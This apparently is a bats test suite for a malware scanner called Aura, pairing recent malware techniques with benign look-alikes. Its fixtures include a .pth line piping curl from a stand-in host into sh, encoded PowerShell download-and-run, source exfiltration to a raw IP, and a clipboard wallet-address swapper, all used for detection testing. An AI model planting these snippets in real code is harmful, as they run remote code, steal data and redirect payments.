#!/usr/bin/env bats
# 47-recall.bats: techniques of recent malware Aura used to miss (issue 11), each with the
# benign look-alike that must not fire.

load helpers/common
load helpers/parse
load helpers/analyze

setup() {
	cd "$BATS_TEST_TMPDIR"
}

# hits FILE: "line detection name context score" of every hit.
hits() {
	scan "$1" | jq -r 'select(.type == "hit") | "\(.line) \(.detection) \(.name) \(.context) \(.score)"'
}

@test "a process command split across list arguments is matched as one command line" {
	py m.py <<'PY'
import subprocess
subprocess.Popen(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-File', 'x.ps1'])
PY
	run dets m.py DownloadAndRun
	assert_output "2 DownloadAndRun powershell.exe -NoProfile -WindowStyle Hidden import 70"
	run jq -r 'select(.type == "ast") | .tree | .. | objects | select(._command) | ._command' \
		< <(file_record m.py | aura-parse | aura-rewrite)
	assert_output "powershell.exe -NoProfile -WindowStyle Hidden -File x.ps1"
}

@test "look-alike: a build's list command, and words that only read alike one by one, match nothing" {
	py m.py <<'PY'
import subprocess
subprocess.run(['git', 'describe', '--tags'])
subprocess.run(['pwsh', '-File', 'build.ps1'], check=True)
print(['powershell', '-w', 'hidden'])
PY
	run dets m.py DownloadAndRun EncodedPowerShell
	assert_output ""
}

@test "powershell -EncodedCommand in a list: the UTF-16LE base64 is decoded and analysed" {
	enc=$(printf "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')" | iconv -t UTF-16LE | base64 -w0)
	py m.py <<PY
import subprocess
subprocess.run(['powershell', '-NoP', '-EncodedCommand', '$enc'])
PY
	run dets m.py RawIPURL
	assert_output "2 RawIPURL http://203.0.113.9/x import 40"
}

@test "look-alike: '-e' before a word that is no UTF-16LE base64 decodes nothing" {
	py m.py <<'PY'
import subprocess
subprocess.run(['perl', '-e', 'aHR0cDovLzIwMy4wLjExMy45L3g='])
PY
	run jq -r 'select(.type == "ast") | .tree | .. | objects | select(._command) | ._command' \
		< <(file_record m.py | aura-parse | aura-rewrite)
	assert_output "perl -e aHR0cDovLzIwMy4wLjExMy45L3g="
}

@test "PowerShell that decodes base64 and runs it (Invoke-Expression) is EncodedPowerShell" {
	py m.py <<'PY'
def drop(path):
    code = '''$c = [Convert]::FromBase64String($b)
$cmd = [Text.Encoding]::UTF8.GetString($c)
Invoke-Expression $cmd'''
    open(path, 'w').write(code)
PY
	run dets m.py EncodedPowerShell
	assert_output "2 EncodedPowerShell Invoke-Expression function 50"
}

@test "look-alike: base64 decoding in PowerShell without running the result is not EncodedPowerShell" {
	py m.py <<'PY'
SCRIPT = '''$bytes = [Convert]::FromBase64String($cert)
[IO.File]::WriteAllBytes("cert.der", $bytes)'''
PY
	run dets m.py EncodedPowerShell
	assert_output ""
}

@test "a library function handed to a thread is called: Thread(target=os.system) is a shell command" {
	py m.py <<'PY'
import threading, os
threading.Thread(target=__import__("os").system, args=["id"]).start()
PY
	run dets m.py ShellCommand
	assert_output "2 ShellCommand os.system import 50"
}

@test "look-alike: a thread running the module's own function, or print, is no shell command" {
	py m.py <<'PY'
import threading
def work():
    return 1
threading.Thread(target=work).start()
threading.Thread(target=print, args=["x"]).start()
PY
	run dets m.py ShellCommand ProcessExecution
	assert_output ""
}

@test "a decorator applied as a call runs the def's body where the def is" {
	py m.py <<'PY'
import os
class Client:
    @staticmethod
    @lambda _: _()
    def load():
        os.system("curl x")
def run(f):
    f()
    return f
@run
def go():
    os.popen("id")
PY
	run dets m.py ShellCommand
	assert_output "$(printf '6 ShellCommand os.system import 50\n12 ShellCommand os.popen import 50')"
}

@test "look-alike: decorators that wrap or register without calling leave the body a function" {
	py m.py <<'PY'
import os, functools
REG = []
def register(f):
    REG.append(f)
    return f
def logged(f):
    @functools.wraps(f)
    def inner(*a):
        return f(*a)
    return inner
@register
def a():
    os.system("a")
@logged
def b():
    os.system("b")
@(lambda f: f)
def c():
    os.system("c")
PY
	run dets m.py ShellCommand
	assert_output "$(printf '13 ShellCommand os.system function 2\n16 ShellCommand os.system function 2\n19 ShellCommand os.system function 2')"
}

@test "builtins aliased by tuple unpacking: the alias resolves, and the renaming is ObfuscatorStub" {
	py m.py <<'PY'
Calculate, System, _math = exec, str, map
Calculate(System(data))
PY
	run dets m.py ObfuscatorStub CodeExecution
	assert_output "$(printf '1 ObfuscatorStub __aura__.builtin_alias import 60\n2 CodeExecution builtins.exec import 40')"
}

@test "look-alike: tuple unpacking of builtins that run no code, or of constants, is no stub" {
	py m.py <<'PY'
_str, _int = str, int
a, b = 1, 2
exec, x = exec, 1
PY
	run dets m.py ObfuscatorStub
	assert_output ""
}

@test "setattr(builtins, <computed name>, ...) is an obfuscator's loader" {
	py m.py <<'PY'
plant = lambda d: [setattr(__builtins__, k, v) for k, v in d.items()]
plant({"IlIl": exec})
PY
	run dets m.py ObfuscatorStub
	assert_output "1 ObfuscatorStub __aura__.builtins_write function 30"
}

@test "look-alike: setattr(builtins, 'name', ...) with a fixed name is a compatibility shim" {
	py m.py <<'PY'
import builtins
setattr(builtins, 'unicode', str)
setattr(object(), name, 1)
PY
	run dets m.py ObfuscatorStub
	assert_output ""
}

@test "PyArmor loaders are ObfuscatorStub: the code is encrypted" {
	py m.py <<'PY'
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\x00\x03')
PY
	run dets m.py ObfuscatorStub
	assert_output "2 ObfuscatorStub pyarmor_runtime_000000.__pyarmor__ import 100"
}

@test "look-alike: a module or function merely named runtime is no PyArmor loader" {
	py m.py <<'PY'
from app import runtime
runtime()
import armor
armor.pyarmor_like()
PY
	run dets m.py ObfuscatorStub
	assert_output ""
}

@test "str() of a builtin is its text: letters sliced from oct.__str__() and copyright fold" {
	py m.py <<'PY'
c = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [(((1 << 4) - 1) << 3) - 1, 111, 115]))
s = str(oct) + repr(str)
PY
	run jq -c '[.tree | .. | objects | select(._type == "Assign") | .value._value]' \
		< <(file_record m.py | aura-parse | aura-rewrite | records_of_type ast)
	assert_output "[\"wos\",\"<built-in function oct><class 'str'>\"]"
}

@test "look-alike: a name that shadows a builtin, or a site helper whose text varies, folds nothing" {
	py m.py <<'PY'
oct = load()
a = oct.__str__()
b = str(license)
PY
	run jq -c '[.tree | .. | objects | select(._value) | ._value]' \
		< <(file_record m.py | aura-parse | aura-rewrite | records_of_type ast)
	assert_output "[]"
}

@test "a clipper: clipboard text matched against wallet-address patterns is Clipper" {
	py m.py <<'PY'
JS = """function swap() {
    document.execCommand('paste');
    var t = inputElement.value.replace(/^(0x)[A-Fa-f0-9]{40}$/g, '0x6eb2103839011Ed56c98145b3d3f9d6BE1b4dA63');
    document.execCommand('copy');
}"""
PY
	run dets m.py Clipper
	assert_output "1 Clipper [A-Fa-f0-9]{40} import 80"
}

@test "look-alike: an address validator reads no clipboard; a clipboard helper matches no address" {
	py m.py <<'PY'
ETH = r"^0x[a-fA-F0-9]{40}$"
BTC = r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$"
HELP = "Copies the result to the clipboard (pyperclip)"
PY
	run dets m.py Clipper
	assert_output ""
}

@test "ClipboardAccess: pyperclip at import time weighs, inside a function almost nothing" {
	py m.py <<'PY'
import pyperclip
data = pyperclip.paste()
def copy_result(x):
    pyperclip.copy(x)
PY
	run dets m.py ClipboardAccess
	assert_output "$(printf '2 ClipboardAccess pyperclip.paste import 30\n4 ClipboardAccess pyperclip.copy function 2')"
}

@test "the calling program's frames and source sent to the network are Exfiltration" {
	py m.py <<'PY'
import inspect, urllib.request
def steal():
    for frame in inspect.stack():
        with open(frame.filename) as f:
            content = f.read()
        urllib.request.urlopen("http://198.51.100.7/x", data=content.encode())
steal()
PY
	run dets m.py Exfiltration
	assert_output "6 Exfiltration urllib.request.urlopen import 120"
}

@test "look-alike: frames used for a log message or a local report leave nothing to exfiltrate" {
	py m.py <<'PY'
import inspect, logging, requests
def where():
    caller = inspect.stack()[1]
    logging.debug("called from %s:%d", caller.filename, caller.lineno)
    return requests.get("https://pypi.org/pypi/x/json")
where()
PY
	run dets m.py Exfiltration
	assert_output ""
}

@test "exec of what a def of the file returns decoded is ObfuscatedCodeExecution (a method through self)" {
	py m.py <<'PY'
import base64
class Proxy:
    def run(self):
        exec(self.decode(self.blob))
    def decode(self, s):
        def xor(m, k):
            return bytes(c ^ k[i % len(k)] for i, c in enumerate(m))
        return xor(base64.b64decode(s), b'k').decode()
PY
	run dets m.py ObfuscatedCodeExecution
	assert_line "4 ObfuscatedCodeExecution __aura__.decoded_exec function 40"
}

@test "look-alike: exec of what a def returns without decoding is not ObfuscatedCodeExecution" {
	py m.py <<'PY'
import base64
def template(name):
    return "def %s(): pass" % name
def decode_header(h):
    return h.strip()
exec(template("f"))
exec(decode_header(line))
PY
	run dets m.py ObfuscatedCodeExecution
	assert_output ""
}

@test "an installed module replaced in sys.modules by this code's object is ModuleHijack" {
	py m.py <<'PY'
import sys
class Proxy:
    def __init__(self, name):
        self.name = name
sys.modules['requests'] = Proxy('requests')
PY
	run dets m.py ModuleHijack
	assert_output "5 ModuleHijack __aura__.module_replaced import 60"
}

@test "look-alike: the lazy-module idiom, a module alias, a ModuleType stand-in, a loader's result are no ModuleHijack" {
	py m.py <<'PY'
import sys, types, pickle
class _Dummy(types.ModuleType):
    def __getattr__(self, name):
        raise AttributeError(name)
class LazyModule:
    pass
def load(path):
    return path
sys.modules[__name__] = LazyModule(__name__)
sys.modules['cPickle'] = pickle
sys.modules['gobject'] = _Dummy('gobject')
sys.modules['cairo'] = load('cairo.pyi')
PY
	run dets m.py ModuleHijack
	assert_output ""
}

# layered N: a file that runs `import os; os.system('id')` through N layers of exec(b64decode).
layered() {
	python3 - "$1" <<'PY'
import base64, sys
src = "import os; os.system('id')"
for _ in range(int(sys.argv[1])):
    src = "import base64\nexec(base64.b64decode(%r))" % base64.b64encode(src.encode()).decode()
print(src)
PY
}

@test "payload layers past the budget are a signal of their own: DeepPayloadLayers" {
	layered 12 >m.py
	run dets m.py DeepPayloadLayers
	assert_output "2 DeepPayloadLayers __aura__.payload_too_deep import 100"
}

@test "look-alike: a few layers are followed to the end and are no DeepPayloadLayers" {
	layered 3 >m.py
	run dets m.py DeepPayloadLayers ShellCommand
	assert_output "2 ShellCommand os.system import 50"
}

# pth_scan FILE: FILE as a .pth member whose import lines site runs, through rewrite | analyze.
pth_scan() {
	file_record "$1" pth | jq -c '.pth_has_code = true' | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and .detection != "StartupHook") | "\(.line) \(.detection) \(.name) \(.context) \(.score)"'
}

@test ".pth import lines are analysed as code that runs at every start-up (install context)" {
	printf '/opt/extra/lib\nimport os; os.system("curl -s http://x.example/a | sh")\n' > hook.pth
	run pth_scan hook.pth
	assert_line "2 ShellCommand os.system install 100"
	assert_line --partial "2 DownloadAndRun curl -s http://x.example/a | sh install 100"
}

@test "look-alike: path lines, comments and a plain import in a .pth run nothing to score" {
	printf '# import os; os.system("x")\n/usr/lib/extra\n./vendor\nimport _virtualenv\n' > paths.pth
	run pth_scan paths.pth
	assert_output ""
}

@test "hex, base16 and URL-safe base64 of a value not known are decoders: run, they are ObfuscatedCodeExecution" {
	py m.py <<'PY'
import base64, binascii
def run(blob, hexed):
    exec(base64.b16decode(blob))
    exec(binascii.a2b_hex(hexed))
    exec(base64.urlsafe_b64decode(blob))
PY
	run dets m.py ObfuscatedCodeExecution
	assert_output "$(printf '3 ObfuscatedCodeExecution builtins.exec function 40\n4 ObfuscatedCodeExecution builtins.exec function 40\n5 ObfuscatedCodeExecution builtins.exec function 40')"
}

@test "look-alike: hex decoded and printed or compared is run nowhere" {
	py m.py <<'PY'
import base64, binascii
def show(blob):
    print(base64.b16decode(blob))
    return binascii.a2b_hex(blob) == b"ok"
PY
	run dets m.py ObfuscatedCodeExecution
	assert_output ""
}

@test "a dependency straight from a URL in setup.py is DirectURLDependency" {
	mkdir -p p
	py p/setup.py <<'PY'
from setuptools import setup
setup(name="p", install_requires=["requests>=2", "helper @ https://files.example/helper-1.0.tar.gz"])
PY
	run dets p/setup.py DirectURLDependency
	assert_output "2 DirectURLDependency helper @ https://files.example/helper-1.0.tar.gz install 60"
}

@test "look-alike: index requirements, an e-mail-like string and a URL alone are no DirectURLDependency" {
	mkdir -p p
	py p/setup.py <<'PY'
from setuptools import setup
setup(name="p", install_requires=["requests>=2", "six"], url="https://github.com/x/p",
      description="bugs to me @ https://x.example", author_email="me@example.org")
PY
	run dets p/setup.py DirectURLDependency
	assert_output ""
}

# tree_hits DIR DETECTION: "path line context score" of that detection's hits for a directory.
tree_hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"' | sort -u
}

@test "a PEP 517 build backend in the tree (backend-path) is install-time code: its top level and hooks" {
	mkdir -p pkg/_build
	printf '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n' > pkg/pyproject.toml
	cat > pkg/_build/backend.py <<'PY'
import os, subprocess
os.system("id")
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.run(["sh", "-c", "id"])
    return "x.whl"
PY
	run tree_hits pkg ShellCommand
	assert_line "_build/backend.py 2 install 100"
	run tree_hits pkg ProcessExecution
	assert_line "_build/backend.py 4 install 80"
}

@test "look-alike: an installed backend (no backend-path) leaves a same-named module of the tree alone" {
	mkdir -p pkg/_build
	printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n' > pkg/pyproject.toml
	cat > pkg/_build/build_meta.py <<'PY'
import os
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.system("id")
PY
	run tree_hits pkg ShellCommand
	assert_output "_build/build_meta.py 3 function 2"
}
